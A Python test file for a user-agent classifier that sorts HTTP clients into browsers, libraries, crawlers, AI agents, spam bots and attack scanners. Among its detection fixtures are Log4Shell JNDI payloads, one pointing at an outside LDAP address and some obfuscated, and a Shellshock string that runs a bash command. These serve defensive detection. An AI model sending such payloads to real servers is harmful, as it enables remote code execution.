"""node.signatures.ua: user-agent kinds, names, lists and hostile input."""

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA

from node.signatures import ua as ua_mod
from node.signatures.ua import KINDS, UAClass, classify_ua, read_list

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)

# Real browser and in-app user agents: all must be "browser" (name = family).
BROWSERS = [
    (CHROME, "Chrome"),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP3A.240617.008; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 Mobile Safari/537.36",
        "Chrome",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) CriOS/126.0.6478.153 Mobile/15E148 Safari/604.1",
        "Chrome",
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "Firefox"),
    ("Mozilla/5.0 (Android 14; Mobile; rv:132.0) Gecko/132.0 Firefox/132.0", "Firefox"),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/18.1 Safari/605.1.15",
        "Safari",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Safari",
    ),
    (CHROME + " Edg/131.0.0.0", "Edge"),
    (CHROME + " OPR/115.0.0.0", "Opera"),
    (
        "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
        "Samsung Internet",
    ),
    (
        "Mozilla/5.0 (Linux; Android 12; CUBOT X30 Build/SP1A.210812.016) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
        "Chrome",
    ),
    (
        "Mozilla/5.0 (Linux; Android 9; SM-G960F Build/PPR1.180610.011; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/74.0.3729.157 Mobile Safari/537.36 "
        "[Pinterest/Android]",
        "Chrome",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/455.0.0.38.107;FBDV/iPhone14,2]",
        "browser",
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0) like Gecko", "IE"),
    ("Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.00", "Opera"),
]


@pytest.mark.parametrize(("ua", "family"), BROWSERS)
def test_browsers(ua, family):
    assert classify_ua(ua) == UAClass("browser", family)


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        # empty
        (None, ("empty", "")),
        ("", ("empty", "")),
        ("-", ("empty", "")),
        ("   ", ("empty", "")),
        # scanners (OWASP CRS 913100 cases, crowdsec nikto, tool defaults)
        ("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", ("scanner", "nikto")),
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", ("scanner", "sqlmap")),
        ("Arachni/0.2.1", ("scanner", "arachni")),
        ("nuclei", ("scanner", "nuclei")),
        (
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            ("scanner", "nuclei"),
        ),
        ("nessus", ("scanner", "nessus")),
        ("Mozilla/5.0 zgrab/0.x", ("scanner", "zgrab")),
        (
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij",
            ("scanner", "havij"),
        ),
        (
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            ("scanner", "nmap"),
        ),
        ("Fuzz Faster U Fool v2.1.0-dev", ("scanner", "ffuf")),
        ("masscan/1.0 (https://github.com/robertdavidgraham/masscan)", ("scanner", "masscan")),
        ("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", ("scanner", "wpscan")),
        ("gobuster/3.6", ("scanner", "gobuster")),
        (
            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
            ("scanner", "dirbuster"),
        ),
        (
            "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
            ("scanner", "censys"),
        ),
        ("ZmEu", ("scanner", "zmeu")),
        ("Morfeus Fucking Scanner", ("scanner", "morfeus")),
        # a scanner token wins over the browser or bot it is appended to
        (CHROME + " sqlmap", ("scanner", "sqlmap")),
        # libraries and headless browsers
        ("curl/8.4.0", ("library", "curl")),
        ("Wget/1.21.2", ("library", "wget")),
        ("python-requests/2.31.0", ("library", "python-requests")),
        ("Python/3.12 aiohttp/3.9.1", ("library", "python")),
        ("Go-http-client/1.1", ("library", "go-http-client")),
        # a mobile app's HTTP stack: its customers' agent, not a script's
        ("okhttp/4.12.0", ("app", "okhttp")),
        ("ShopApp/3.1 (com.shop.ios; build:88; iOS 17.1.1) Alamofire/5.8.0", ("app", "alamofire")),
        ("Java/17.0.1", ("library", "java")),
        ("Apache-HttpClient/4.5.14 (Java/17.0.8)", ("library", "apache-httpclient")),
        ("libwww-perl/6.72", ("library", "libwww-perl")),
        ("Scrapy/2.11.0 (+https://scrapy.org)", ("library", "scrapy")),
        ("axios/1.6.2", ("library", "axios")),
        ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", ("library", "node-fetch")),
        ("PostmanRuntime/7.36.0", ("library", "postman")),
        ("Dart/3.2 (dart:io)", ("app", "dart")),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessChrome/120.0.0.0 Safari/537.36",
            ("library", "headlesschrome"),
        ),
        (
            "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
            "PhantomJS/2.1.1 Safari/538.1",
            ("library", "phantomjs"),
        ),
        # claims of verifiable crawlers (name = vendor key for the verifier)
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ("good_bot", "googlebot"),
        ),
        ("Googlebot-Image/1.0", ("good_bot", "googlebot")),
        ("AdsBot-Google (+http://www.google.com/adsbot.html)", ("good_bot", "googlebot")),
        (
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            ("good_bot", "bingbot"),
        ),
        (
            "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            ("good_bot", "yandex"),
        ),
        (
            "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
            ("good_bot", "baidu"),
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like "
            "Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
            ("good_bot", "applebot"),
        ),
        ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", ("good_bot", "duckduckbot")),
        (
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            ("good_bot", "meta"),
        ),
        (CHROME + " (compatible; GPTBot/1.0; +https://openai.com/gptbot)", ("good_bot", "gptbot")),
        # other crawlers (crawler-user-agents), and unlisted self-declared bots
        (
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            ("crawler", "ahrefsbot"),
        ),
        (
            "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
            ("crawler", "semrushbot"),
        ),
        ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", ("crawler", "mj12bot")),
        ("Mozilla/5.0 (compatible; FooSearchBot/1.0)", ("crawler", "foosearchbot")),
        (
            "Y!J-ASR/0.1 crawler (http://www.yahoo-help.jp/app/answers/detail/p/595/a_id/42716/)",
            ("crawler", "crawler"),
        ),
        # other: apps and anything else
        # exploit payloads as the agent: Log4Shell (plain and obfuscated), Shellshock
        ("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1}", ("scanner", "log4shell")),
        ("${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/c}",
         ("scanner", "log4shell")),
        ("${${::-j}ndi:rmi://x/a}", ("scanner", "log4shell")),
        ("() { :; }; /bin/bash -c 'id'", ("scanner", "shellshock")),
        ("Report Runner", ("scanner", "fortinet-auth-bypass")),
        ("MyShop/4.2 (iPhone; iOS 17.0; Scale/3.00)", ("other", "")),
        ("Roku/DVP-13.1 (13.1.4.01510-30)", ("other", "")),
        ("OWASP CRS test agent", ("other", "")),
        ("urlgrabber/3.10 yum/3.4.3", ("other", "")),
    ],
)
def test_kinds(ua, expected):
    assert classify_ua(ua)[:2] == expected


# Words inside other words and similar tokens must not turn a client into a scanner.
@pytest.mark.parametrize(
    "ua",
    [
        "MapApp/2.0 (unmapped tiles)",
        "Mozilla/5.0 (Linux; Android 10; Pantech VEGA) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0 Mobile Safari/537.36",
        "mozilla/5.0 ecairn-grabber/1.0 (+http://ecairn.com/grabber)",
        "MyApp/1.0 (template ${version}; () => {})",   # braces, no lookup or function body
    ],
)
def test_not_scanner(ua):
    assert classify_ua(ua).kind != "scanner"


def test_every_kind_is_in_the_closed_set():
    samples = [ua for ua, _ in BROWSERS] + ["", "curl/8", "sqlmap", "Googlebot", "x", "FooBot/1"]
    assert {classify_ua(ua).kind for ua in samples} <= KINDS


def test_crawler_user_agents_instances_are_not_browsers():
    """The package's own example UAs: all but a handful (3-letter tokens) are recognised."""
    missed = [
        inst
        for entry in CRAWLER_USER_AGENTS_DATA
        for inst in entry.get("instances", [])
        if classify_ua(inst).kind in ("browser", "other", "empty")
    ]
    total = sum(len(e.get("instances", [])) for e in CRAWLER_USER_AGENTS_DATA)
    assert len(missed) <= total * 0.01, missed[:20]


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("Googlebot\\/", [("in", "googlebot/")]),
        ("[wW]get", [("in", "wget")]),
        ("^Apache-HttpClient", [("^", "apache-httpclient")]),
        ("AdsBot-Google([^-]|$)", [("in", "adsbot-google")]),
        ("Ahrefs(Bot|SiteAudit)", [("in", "ahrefsbot"), ("in", "ahrefssiteaudit")]),
        ("Automaton|Newsify Feed Fetcher", [("in", "automaton"), ("in", "newsify feed fetcher")]),
        ("ContextualBot[\\s\\S]*outcomes\\.net", [("in", "contextualbot")]),
        ("GoogleAssociationService$", [("$", "googleassociationservice")]),
        ("(^| )sentry\\/", [("in", "sentry/")]),
        ("BW\\/", []),  # too short to match as a substring
    ],
)
def test_crawler_pattern_to_literals(pattern, expected):
    assert sorted(ua_mod._crawler_literals(pattern)) == sorted(expected)


def test_crawler_literals_match_the_package_examples():
    """Each pattern's literals still match the example UAs the package lists for it."""
    for entry in CRAWLER_USER_AGENTS_DATA:
        lits = ua_mod._crawler_literals(entry["pattern"])
        for inst in entry.get("instances", []):
            low = inst.lower()
            hits = [
                (mode == "in" and lit in low)
                or (mode == "^" and low.startswith(lit))
                or (mode == "$" and low.endswith(lit))
                for mode, lit in lits
            ]
            assert not lits or any(hits), (entry["pattern"], lits, inst)


@pytest.mark.parametrize(
    "filename",
    ["ua_scanners.txt", "ua_libraries.txt", "ua_good_bots.txt", "ua_crawler_exclude.txt"],
)
def test_list_files(filename):
    text = (ua_mod.resources.files("node") / "data" / filename).read_text(encoding="utf-8")
    assert text.startswith("# Palisade:"), "each list starts with a header saying what it is"
    header = "".join(line for line in text.splitlines() if line.startswith("#"))
    assert "source" in header.lower() or "crawler-user-agents" in header  # where entries come from
    entries = read_list(filename)
    assert entries and len(entries) == len(set(entries))


@pytest.mark.parametrize("filename", ["ua_scanners.txt", "ua_libraries.txt", "ua_good_bots.txt"])
def test_no_literal_hides_another_with_a_different_name(filename):
    """The trie reports the shortest literal at a position: a prefix must not rename another."""
    table = ua_mod._named_literals(filename)
    for a, name_a in table.items():
        for b, name_b in table.items():
            if a != b and b.startswith(a):
                assert name_a == name_b, (a, b)


HOSTILE = [
    "a" * 65536,
    "Mozilla/5.0 (" * 5000,
    "(" * 65536,
    "%" * 65536,
    "bot/" * 16384,
    "\x00" * 65536,
    "\udcff" * 1000 + "sqlmap",
    "🙂" * 20000,
    "Googlebot" + " " * 65536,
    "compatible; " * 5000,
]


@pytest.mark.parametrize("ua", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_input_is_bounded(ua):
    result = classify_ua(ua)
    assert result.kind in KINDS
    assert classify_ua(ua) is result  # cached, and the cache key was the truncated string


def test_only_the_first_max_ua_characters_count():
    assert classify_ua("x" * ua_mod.MAX_UA + "sqlmap").kind == "other"
    assert classify_ua("x" * (ua_mod.MAX_UA - 7) + " sqlmap").kind == "scanner"


# -- declared AI agents and search crawlers: name and category ----------------------------------

@pytest.mark.parametrize(("ua", "kind", "agent", "category"), [
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
     "+https://openai.com/gptbot)", "good_bot", "GPTBot", "ai_crawler"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; OAI-SearchBot/1.0; "
     "+https://openai.com/searchbot)", "good_bot", "OAI-SearchBot", "search_engine"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
     "+https://openai.com/bot", "good_bot", "ChatGPT-User", "ai_assistant"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
     "+claudebot@anthropic.com)", "crawler", "ClaudeBot", "ai_crawler"),
    ("Claude-User/1.0 (+Claude-User@anthropic.com)", "crawler", "Claude-User", "ai_assistant"),
    ("Mozilla/5.0 (compatible; Claude-SearchBot/1.0; +https://www.anthropic.com)", "crawler",
     "Claude-SearchBot", "search_engine"),
    ("anthropic-ai/1.0", "crawler", "anthropic-ai", "ai_crawler"),
    ("CCBot/2.0 (https://commoncrawl.org/faq/)", "crawler", "CCBot", "ai_crawler"),
    ("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
     "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)", "crawler",
     "Bytespider", "ai_crawler"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
     "+https://perplexity.ai/perplexitybot)", "good_bot", "PerplexityBot", "search_engine"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; "
     "+https://perplexity.ai/perplexity-user)", "crawler", "Perplexity-User", "ai_assistant"),
    ("meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/"
     "crawler)", "good_bot", "Meta-ExternalAgent", "ai_crawler"),
    ("Mozilla/5.0 (compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)",
     "good_bot", "Amazonbot", "ai_crawler"),
    ("cohere-ai", "crawler", "cohere-ai", "ai_assistant"),
    ("Mozilla/5.0 (compatible; Diffbot/0.1; +http://www.diffbot.com)", "crawler", "Diffbot",
     "ai_crawler"),
    ("Mozilla/5.0 (compatible; YouBot (+http://www.you.com))", "crawler", "YouBot",
     "search_engine"),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "good_bot",
     "Googlebot", "search_engine"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "good_bot",
     "Bingbot", "search_engine"),
])
def test_declared_agents_are_named_with_a_category(ua, kind, agent, category):
    c = classify_ua(ua)
    assert (c.kind, c.agent, c.category) == (kind, agent, category)
    assert c.category in ua_mod.CATEGORIES


# Ordinary browsers, apps and SDKs: no category, and never a spam bot.
ORDINARY = [ua for ua, _ in BROWSERS] + [
    "python-requests/2.32.3", "okhttp/4.12.0", "Go-http-client/1.1", "Go-http-client/2.0",
    "curl/8.5.0", "axios/1.7.2", "Dart/3.2 (dart:io)", "Java/17.0.2",
    "ShopApp/3.1 (iPhone; iOS 17.1; Scale/3.00) Alamofire/5.8.0",
    "Apache-HttpClient/4.5.14 (Java/17)", "PostmanRuntime/7.39.0", "node-fetch/1.0",
    "OpenAI/Python 1.54.0", "aws-sdk-js/3.600.0", "Mozilla/4.0 (compatible; MSIE 6.0; "
    "Windows NT 5.1)",
    # Electron apps whose names are ai.robots.txt entries left out as ordinary words
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Code/1.95.0 Chrome/128.0.6613.186 Electron/32.2.1 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Cursor/0.42.4 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36",
]


@pytest.mark.parametrize("ua", ORDINARY)
def test_ordinary_clients_have_no_category_and_are_no_spam_bots(ua):
    c = classify_ua(ua)
    assert c.category == "" and c.agent == ""
    assert c.kind not in ("spam_bot", "scanner", "crawler")


def test_agents_file_sections_and_longest_names():
    table = ua_mod._categorised("ua_ai_agents.txt")
    assert {cat for _, cat in table.values()} == set(ua_mod.CATEGORIES)
    # The longest declared name wins over a prefix of it (the trie alone finds the shortest).
    for literal, expected in table.items():
        assert ua_mod._agent(f"mozilla/5.0 (compatible; {literal}/1.0)") == expected, literal


# -- fail2ban apache-badbots: spam bots and harvesters ---------------------------------------------

@pytest.mark.parametrize(("ua", "name"), [
    ("EmailCollector/1.0", "EmailCollector"),
    ("Mozilla/4.0 (compatible; Advanced Email Extractor v2.xx)",
     "Mozilla/4.0 (compatible; Advanced Email Extractor v2.xx)"),
    ("Mozilla/3.0 (compatible; Indy Library)", "Mozilla/3.0 (compatible; Indy Library)"),
    ("TrackBack/1.02", "TrackBack/1.02"),
    ("Guestbook Auto Submitter", "Guestbook Auto Submitter"),
    ("WebVulnCrawl.unknown/1.0 libwww-perl/5.803", "WebVulnCrawl.unknown/1.0 libwww-perl/5.803"),
    ("Atomic_Email_Hunter/4.0", "Atomic_Email_Hunter/4.0"),
    ("ExtractorPro", "ExtractorPro"),
])
def test_fail2ban_badbots_are_spam_bots(ua, name):
    assert classify_ua(ua)[:2] == ("spam_bot", name)


@pytest.mark.parametrize("filename", ["ua_ai_agents.txt", "ua_spam_bots.txt"])
def test_new_list_files_name_their_source_and_licence(filename):
    text = (ua_mod.resources.files("node") / "data" / filename).read_text(encoding="utf-8")
    header = "".join(line for line in text.splitlines() if line.startswith("#")).lower()
    assert text.startswith("# Palisade:") and "source" in header and "licen" in header
    entries = [e for e in read_list(filename) if not e.startswith("[")]
    assert entries and len(entries) == len({e.lower() for e in entries})
